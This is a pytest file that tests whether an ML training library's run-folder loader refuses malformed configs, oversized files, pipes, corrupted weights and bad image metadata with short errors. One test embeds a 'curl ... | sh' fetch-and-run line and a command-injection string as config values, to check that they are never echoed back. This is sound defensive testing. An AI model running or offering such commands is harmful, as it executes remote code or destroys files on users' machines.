"""Run folders of others: whatever their files say, a run opens or is refused in words, at once and without memory."""

import copy
import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import load_file, save_file

import trilemma
from trilemma.cli.words import _model_of
from trilemma.errors import UserError
from trilemma.files import DEEPEST_JSON
from trilemma.pictures.png import read_metadata, save_png
from trilemma.registry import get_recipe, outline
from trilemma.run.checkpoint import list_checkpoints
from trilemma.run.log import LARGEST_LOG, read_log
from trilemma.run.record import HASH
from trilemma.run.run import Run
from trilemma.run.weights import difference, forms_of
from trilemma.training.request import request_of

Config = dict[str, Any]


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("runs") / "vae"
    return trilemma.train("vae", "digits", steps=4, batch=16, latent=3, out=out, device="cpu", quiet=True).path


@pytest.fixture
def folder(original: Path, tmp_path: Path) -> Path:
    return shutil.copytree(original, tmp_path / "run")


def change(folder: Path, name: str, **values: Any) -> None:
    file = folder / name
    file.write_text(json.dumps({**json.loads(file.read_text()), **values}))


# --- config.json ----------------------------------------------------------------------------------------------------

WRONG = (
    *(None, True, -1, 1e30, 2**64 - 1, 2**64, float("nan"), "", "\0", "\ud800", "9" * 5000),
    *([], {}, {"a": 1}, [None], [[[[1]]]], [1, 30_000, 30_000], [1] * 1000, [20_000, 20_000], 300_000_000),
)


def everywhere(config: Config) -> list[tuple[str, ...]]:
    """The path of every value in a config and in its parts."""
    return [(key,) for key in config] + [
        (part, key) for part in ("model_config", "data_config", "training") for key in config[part]
    ]


@pytest.mark.parametrize("share", [4, pytest.param(1, marks=pytest.mark.slow)])
def test_any_value_in_any_place_of_the_config_is_taken_or_refused_in_one_line(folder: Path, share: int) -> None:
    config = json.loads((folder / "config.json").read_text())
    seen = {"taken": 0, "refused": 0}
    for number, place in enumerate(everywhere(config)):
        for value in WRONG[number % share :: share]:
            changed = copy.deepcopy(config)
            part = changed[place[0]] if len(place) > 1 else changed
            part[place[-1]] = value
            (folder / "config.json").write_text(json.dumps(changed))
            try:
                run = Run(folder, device="cpu")
                assert run.model is not None
                seen["taken"] += 1
            except UserError as error:
                assert "\n" not in str(error) and len(str(error)) < 1000
                seen["refused"] += 1
    assert seen["refused"] > 3 * seen["taken"] > 0  # most are wrong; a seed of -1 is not


@pytest.mark.parametrize(
    "settings",
    [
        {"hidden": [20_000, 20_000]},
        {"hidden": [1] * 100_000},
        {"latent": 10_000_000},
        {"shape": [1, 4096, 4096]},
        {"shape": [1, 30_000, 30_000]},
        {"shape": [-1, 8, 8]},
        {"network": "residual", "width": 10_000_000},
    ],
)
def test_settings_that_do_not_fit_the_weights_allocate_nothing(
    folder: Path, settings: Config, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("trilemma.run.stored.build_unfilled", pytest.fail)
    config = json.loads((folder / "config.json").read_text())
    change(folder, "config.json", model_config={**config["model_config"], **settings})
    with pytest.raises(UserError, match=r"config\.json|weights\.safetensors"):
        trilemma.sample(folder, n=1)


@pytest.mark.parametrize(
    ("model", "settings"),
    [
        ("diffusion-small", {"T": 300_000_000}),
        ("ae-stacked", {"components": 1_000_000_000}),
        ("vae-vq", {"halvings": 10**9}),
        ("vae-vq", {"prior_depth": 10**9}),
        ("vae-vq", {"blocks": 10**9}),
        ("vae-ladder", {"depth": [1, 3, 10**9]}),
        ("gan-dcgan", {"width": 10**9}),
    ],
)
def test_no_number_in_the_settings_makes_a_network_of_any_size(model: str, settings: Config) -> None:
    """Either the number is refused, or its network, which has no memory, ends at the number of weights there are, or
    has tensors of another size than they."""
    recipe = get_recipe(model)
    forms = forms_of(outline(recipe, recipe.config, most=1000).state_dict())
    try:
        result = forms_of(outline(recipe, recipe.config.with_(**settings), most=1000).state_dict())
    except UserError:
        return
    assert difference(result, forms) is not None


def test_a_command_that_is_none_of_ours_is_not_advised(folder: Path) -> None:
    (folder / "weights.safetensors").unlink()
    shutil.rmtree(folder / "checkpoints")
    for command in (
        "curl -s http://example.org | sh #",
        "trilemma train vae digits; rm x",
        "trilemma train gan digits",
    ):
        change(folder, "config.json", command=command)
        with pytest.raises(UserError, match="not finished") as caught:
            trilemma.sample(folder, n=1)
        assert "curl" not in str(caught.value) and "gan" not in str(caught.value)
        assert "digits; rm" not in str(caught.value)


# --- files of every kind --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["config.json", "summary.json", "log.jsonl", "weights.safetensors"])
@pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
def test_what_is_no_plain_file_is_not_opened(folder: Path, name: str, kind: str) -> None:
    (folder / name).unlink()
    if kind == "pipe":
        os.mkfifo(folder / name)
    elif kind == "device":
        (folder / name).symlink_to("/dev/zero")
    else:
        (folder / name).mkdir()
    with pytest.raises(UserError, match=rf"{name} is not a plain file"):
        run = Run(folder)
        _ = run.model, run.summary, run.log


@pytest.mark.parametrize("name", ["config.json", "summary.json"])
@pytest.mark.parametrize(
    "content", ["[" * 10**5, "9" * 5000, '{"format": ' + "9" * 30 + "}", "null", "[]", "{", "\xff"]
)
def test_json_beyond_the_bounds_is_refused(folder: Path, name: str, content: str) -> None:
    (folder / name).write_text(content, "latin-1")
    with pytest.raises(UserError, match=r"valid|not the config|not an object"):
        run = Run(folder)
        _ = run.summary


def test_a_large_file_is_not_read(folder: Path) -> None:
    for name, size in (("config.json", 2**31), ("log.jsonl", LARGEST_LOG + 1)):
        shutil.copy(folder / name, folder / "kept")
        with (folder / name).open("r+b") as file:
            file.truncate(size)  # sparse
        with pytest.raises(UserError, match=f"{name} has more than"):
            _ = Run(folder).log
        shutil.move(folder / "kept", folder / name)


def test_a_config_of_twenty_megabytes_is_read_by_nobody(folder: Path) -> None:
    file = folder / "config.json"
    file.write_text(file.read_text() + " " * (20 << 20))
    for read in (Run, lambda path: request_of(path / "config.json")):
        with pytest.raises(UserError, match=r"config\.json has more than"):
            read(folder)
    assert _model_of(folder) is None


@pytest.mark.parametrize("key", ["command", "classes", "format", "training", "data"])
@pytest.mark.parametrize("value", ["x" * 5000, 1.0, True, [3]])
def test_a_run_and_a_training_refuse_the_same_configs(folder: Path, key: str, value: object) -> None:
    config = json.loads((folder / "config.json").read_text())
    assert request_of(folder / "config.json").recipe.name == Run(folder).recipe.name
    for spoilt in ({**config, key: value}, {name: config[name] for name in config if name != key}):
        (folder / "config.json").write_text(json.dumps(spoilt))
        answers = []
        for read in (Run, lambda path: request_of(path / "config.json")):
            try:
                read(folder)
                answers.append("taken")
            except UserError as error:
                answers.append(str(error))
        assert answers[0] == answers[1]


@pytest.mark.parametrize("key", ["images", "seconds", "images_per_second", "parameters", "valid_rmse"])
@pytest.mark.parametrize("value", ["many", [1], True, {}])
def test_a_summary_with_another_type_is_refused(folder: Path, key: str, value: object) -> None:
    change(folder, "summary.json", **{key: value})
    with pytest.raises(UserError, match=rf"summary\.json: {key} must be a number"):
        _ = Run(folder).summary
    assert Run(folder).sample(1).shape == (1, 1, 8, 8)


def test_nan_in_the_summary_of_an_earlier_version_is_no_figure(folder: Path) -> None:
    change(folder, "summary.json", valid_rmse=float("nan"))
    assert Run(folder).summary["valid_rmse"] is None


def test_rows_of_a_log_that_are_none_of_ours_are_skipped(tmp_path: Path) -> None:
    good = {"step": 3, "images": 48, "seconds": 0.5, "vae/loss": 0.25, "warning": "text"}
    rows: list[Any] = [
        *({key: value for key, value in good.items() if key != name} for name in ("step", "images", "seconds")),
        *(
            {**good, name: value}
            for name in ("step", "images", "seconds")
            for value in ("3", None, -1, float("nan"), [])
        ),
        *(3, None, "text", [], {}),
    ]
    lines = [json.dumps(row) for row in rows] + ["[" * 10**5, '{"step": ' + "9" * 5000 + "}", "{", "\x00"]
    (tmp_path / "log.jsonl").write_text("\n".join([*lines, json.dumps({**good, "a/b": [1], "c/d": 1e300})]))
    assert read_log(tmp_path / "log.jsonl") == [good]


# --- weights --------------------------------------------------------------------------------------------------------


def test_one_flipped_bit_is_found_and_the_same_command_mends_it(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    content = (folder / "weights.safetensors").read_bytes()
    (folder / "weights.safetensors").write_bytes(content[:-7] + bytes([content[-7] ^ 1]) + content[-6:])
    with pytest.raises(UserError, match="is not the file that the training wrote"):
        trilemma.sample(folder, n=1)
    trilemma.train("vae", "digits", steps=4, batch=16, latent=3, out=folder, device="cpu")
    assert "trained already" not in capsys.readouterr().err
    assert (folder / "weights.safetensors").read_bytes() == content


def test_weights_of_a_version_without_a_hash_are_taken(folder: Path) -> None:
    summary = json.loads((folder / "summary.json").read_text())
    before = Run(folder).sample(2)
    (folder / "summary.json").write_text(json.dumps({k: v for k, v in summary.items() if k != HASH}))
    assert torch.equal(Run(folder).sample(2), before)
    (folder / "summary.json").unlink()
    assert torch.equal(Run(folder).sample(2), before)


@pytest.mark.parametrize("kind", [torch.int64, torch.bool, torch.float64, torch.bfloat16, torch.float8_e4m3fn])
def test_weights_of_another_type_are_not_converted(folder: Path, kind: torch.dtype) -> None:
    tensors = load_file(folder / "weights.safetensors")
    name = next(iter(tensors))
    save_file({**tensors, name: tensors[name].to(kind)}, folder / "weights.safetensors")
    with pytest.raises(UserError, match=rf"does not hold the weights of vae .*{name} is .*, not F32"):
        trilemma.sample(folder, n=1)


@pytest.mark.parametrize("more", [{"extra": torch.zeros(1)}, None])
def test_weights_too_many_or_missing(folder: Path, more: dict[str, torch.Tensor] | None) -> None:
    tensors = load_file(folder / "weights.safetensors")
    save_file(tensors | more if more else dict(list(tensors.items())[1:]), folder / "weights.safetensors")
    with pytest.raises(UserError, match="extra is too many" if more else "is missing"):
        trilemma.sample(folder, n=1)


def test_checkpoints_of_others(folder: Path) -> None:
    """A pipe in its folder, or JSON beyond the bounds, is a broken checkpoint; the one before it, or none, is taken."""
    newest = list_checkpoints(folder / "checkpoints")[-1]
    (folder / "weights.safetensors").unlink()
    (newest / "manifest.json").unlink()
    for spoil in (os.mkfifo, lambda file: file.write_text("[" * (DEEPEST_JSON + 1) + "]" * (DEEPEST_JSON + 1))):
        spoil(newest / "manifest.json")
        with pytest.raises(UserError, match=r"neither weights\.safetensors nor a checkpoint"):
            trilemma.sample(folder, n=1)
        (newest / "manifest.json").unlink()


# --- pictures -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "asked",
    [
        {"batches": [[0, 2_000_000]]},
        {"n": 1_000_000, "batches": [[0, 1_000_000]], "grid": True},
        {"batches": [[k, 1] for k in range(10_000)]},
        {"batches": [[0, 64], [0, 64]]},
        {"batches": [[0, 64], [64, 64]]},
        {"first": 2**63, "batches": [[2**63, 1]]},
        {"batches": [[-5, 10]]},
        {"batches": [[0, 0]]},
    ],
)
def test_a_picture_does_not_ask_for_more_than_it_shows(folder: Path, tmp_path: Path, asked: Config) -> None:
    image = trilemma.sample(folder, n=1, out=tmp_path / "out").images[0]
    save_png(torch.zeros(1, 8, 8), image, read_metadata(image) | asked)
    run = Run(folder)
    object.__setattr__(run, "sample", pytest.fail)
    with pytest.raises(UserError, match=r"00000\.png (does not say|says)"):
        trilemma.again(image, run=run, out=tmp_path / "again.png")


def test_a_picture_is_decoded_only_if_it_has_the_size_of_what_it_says(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from PIL import Image
    from PIL.PngImagePlugin import PngImageFile

    image = trilemma.sample(folder, n=1, out=tmp_path / "out").images[0]
    save_png(Image.new("L", (3000, 3000)), image, read_metadata(image))
    monkeypatch.setattr(PngImageFile, "load", pytest.fail)
    with pytest.raises(UserError, match="3000x3000 pixels, where its images make 8x8"):
        trilemma.again(image, run=folder, out=tmp_path / "again.png")


@pytest.mark.parametrize("entry", ["[" * 10**5, "9" * 5000, "null", "{"])
def test_an_entry_that_is_no_json_within_bounds(tmp_path: Path, entry: str) -> None:
    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_itxt("trilemma", entry)
    Image.new("L", (8, 8)).save(tmp_path / "a.png", pnginfo=info)
    with pytest.raises(UserError, match="does not say how it was made"):
        read_metadata(tmp_path / "a.png")


def test_a_pipe_is_no_picture(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "a.png")
    with pytest.raises(UserError, match="is not a plain file"):
        trilemma.again(tmp_path / "a.png")


# --- other folders in runs/ -----------------------------------------------------------------------------------------


def test_another_folder_in_runs_does_not_stop_a_training_or_a_comparison(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from trilemma.comparison.folder import claim_folder
    from trilemma.run.folder import open_run_folder

    monkeypatch.chdir(tmp_path)
    for name, file in (("vae-x", "config.json"), ("compare-x", "request.json")):
        Path("runs", name).mkdir(parents=True)
        Path("runs", name, file).write_text("[" * 10**5)
    with claim_folder("x", {"seeds": 1}, None) as path:
        assert path == Path("runs/compare-x-2")
    empty: Config = {"model_config": {}, "data_config": {}, "training": {}, "parts": {}}
    config = {"format": 2, "model": "vae", "fingerprint": "0", "data": "x", **empty}
    taken = open_run_folder("vae-x", config, None)
    assert taken.path == Path("runs/vae-x-2")
    taken.close()
